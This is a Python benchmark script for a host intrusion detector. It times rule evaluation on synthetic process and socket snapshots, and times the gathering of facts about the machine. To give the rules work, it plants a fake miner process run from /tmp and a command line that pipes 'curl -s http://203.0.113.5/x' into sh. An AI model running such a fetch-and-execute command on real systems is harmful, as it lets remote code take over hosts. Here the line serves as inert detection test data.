"""CPU cost of detection (not a test: prints figures).

- Rule evaluation per snapshot: ``Detector.evaluate`` on a synthetic snapshot of 1,000
  processes and 2,000 sockets (with a realistic sprinkling of command lines, listeners and
  outbound connections, a few of them suspicious), with and without host facts, after a warm-up
  that fills the detector's history. A second figure adds this machine's real facts.
- Facts gathering on this machine: ``backends.facts.gather_facts("/")`` (the gatherer's own CPU
  time, and wall time), and decoding into ``domain.facts``.

Measured with ``time.process_time`` (CPU, not wall time), median of RUNS runs.
Run: ``.venv/bin/python bench/bench_detect.py`` (or ``./dev bench``).
"""

from __future__ import annotations

import random
import statistics
import time
from dataclasses import replace

from backends.facts import gather_facts
from backends.facts_decode import decode_facts
from domain.detect import Detector
from domain.model import HostMetrics, HostSnapshot, Process, Socket

RUNS = 15
PROCESSES = 1000
SOCKETS = 2000
T0 = 1_790_000_000.0

PROGRAMS = (
    ("/usr/bin/python3", ("python3", "/srv/app/manage.py", "runworker", "--queue", "default")),
    ("/usr/sbin/nginx", ("nginx: worker process",)),
    ("/usr/lib/postgresql/15/bin/postgres", ("postgres: 15/main: app app 10.0.0.5(51234) idle",)),
    ("/usr/bin/bash", ("/bin/bash", "/opt/jobs/run.sh", "--nightly")),
    (
        "/usr/lib/jvm/java-17/bin/java",
        ("java", "-Xmx2g", "-Djava.io.tmpdir=/tmp", "-jar", "/opt/app/app.jar"),
    ),
    ("/usr/bin/node", ("node", "/srv/web/server.js", "--port", "3000")),
    ("/usr/sbin/sshd", ("sshd: admin@pts/0",)),
    ("/usr/bin/dash", ("sh", "-c", "/usr/lib/apt/apt.systemd.daily update")),
)


def metrics() -> HostMetrics:
    return HostMetrics(
        cpu_count=16,
        cpu_total=35.0,
        cpu_iowait=1.0,
        cpu_steal=0.5,
        load1=4.0,
        load5=3.5,
        load15=3.0,
        mem_total=64 * 2**30,
        mem_available=20 * 2**30,
        swap_total=0,
        swap_free=0,
        disk_latency_ms=3.0,
        disk_iops=400.0,
        net_rx_bytes_s=2e6,
        net_tx_bytes_s=1e6,
        net_rx_packets_s=3000.0,
        net_tx_packets_s=2500.0,
        shm_used=2**20,
        shm_total=32 * 2**30,
        uptime_s=9e5,
    )


def snapshot(rng: random.Random, t: float) -> HostSnapshot:
    procs = []
    for pid in range(100, 100 + PROCESSES):
        exe, cmdline = PROGRAMS[pid % len(PROGRAMS)]
        kernel = pid % 10 == 0
        procs.append(
            Process(
                pid=pid,
                ppid=1 if pid % 7 else pid - 1,
                name="kworker/3:1" if kernel else exe.rsplit("/", 1)[-1][:15],
                state="S",
                uid=0,
                user="root" if pid % 3 else "www-data",
                cpu_percent=rng.random() * 5,
                rss=50 * 2**20,
                start_time=T0 - 3600,
                exe="" if kernel else exe,
                exe_deleted=pid % 97 == 0,
                exe_memfd=False,
                cmdline=() if kernel else (*cmdline, f"--id={pid}"),
                cwd="/",
                kernel_thread=kernel,
                threads=4,
                tty_nr=0,
            )
        )
    # A few bad ones, so rules have work beyond the fast path.
    procs[1] = replace(
        procs[1], name="kdevtmpfsi", exe="/tmp/kdevtmpfsi", cmdline=("/tmp/kdevtmpfsi",)
    )
    procs[2] = replace(procs[2], cmdline=("sh", "-c", "curl -s http://203.0.113.5/x | sh"))
    # Sockets belong to servers and clients, not to shells or kernel threads.
    owners = [p.pid for p in procs if not p.kernel_thread and "sh" not in p.name]
    socks = []
    for i in range(SOCKETS):
        pid = rng.choice(owners)
        if i < 40:
            socks.append(
                Socket("tcp", "0.0.0.0", 8000 + i, "0.0.0.0", 0, "LISTEN", 10**6 + i, 0, pid, "svc")
            )
        elif i % 2:
            socks.append(
                Socket(
                    "tcp",
                    "10.0.0.2",
                    8000 + i % 40,
                    f"10.1.{i % 250}.{i % 200}",
                    40000 + i,
                    "ESTABLISHED",
                    10**6 + i,
                    0,
                    pid,
                    "svc",
                )
            )
        else:
            socks.append(
                Socket(
                    "tcp",
                    "10.0.0.2",
                    40000 + i,
                    f"10.2.{i % 250}.{i % 7}",
                    5432,
                    "ESTABLISHED",
                    10**6 + i,
                    0,
                    pid,
                    "svc",
                )
            )
    return HostSnapshot("bench", "bench", t, "bench", metrics(), tuple(procs), tuple(socks))


def median_ms(samples: list[float]) -> float:
    return statistics.median(samples) * 1000.0


def main() -> None:
    rng = random.Random(4)
    snaps = [snapshot(rng, T0 + 2 * i) for i in range(RUNS + 5)]
    detector = Detector()
    for s in snaps[:5]:  # warm-up: fills history, compiles patterns
        detector.evaluate(s)
    times = []
    for s in snaps[5:]:
        start = time.process_time()
        findings = detector.evaluate(s)
        times.append(time.process_time() - start)
    print(
        f"rule evaluation, {PROCESSES} processes + {SOCKETS} sockets, no facts: "
        f"{median_ms(times):.1f} ms CPU per snapshot (median of {RUNS}; {len(findings)} findings)"
    )

    wall = time.time()
    start = time.process_time()
    raw = gather_facts("/", "/proc")
    gather_cpu = time.process_time() - start
    gather_wall = time.time() - wall
    start = time.process_time()
    facts = decode_facts(raw, "bench")
    decode_cpu = time.process_time() - start
    print(
        f"facts gathering on this machine: {gather_cpu * 1000:.1f} ms CPU, "
        f"{gather_wall * 1000:.1f} ms wall ({len(facts.files)} files, {len(facts.users)} "
        f"accounts, {len(facts.temp_files)} temp files); decoding: {decode_cpu * 1000:.1f} ms CPU"
    )

    times = []
    for i, s in enumerate(snaps[5:]):
        later = replace(s, taken_at=T0 + 1000 + 2 * i)
        start = time.process_time()
        detector.evaluate(later, facts)
        times.append(time.process_time() - start)
    print(
        f"rule evaluation with this machine's facts: {median_ms(times):.1f} ms CPU per snapshot "
        f"(median of {RUNS})"
    )


if __name__ == "__main__":
    main()
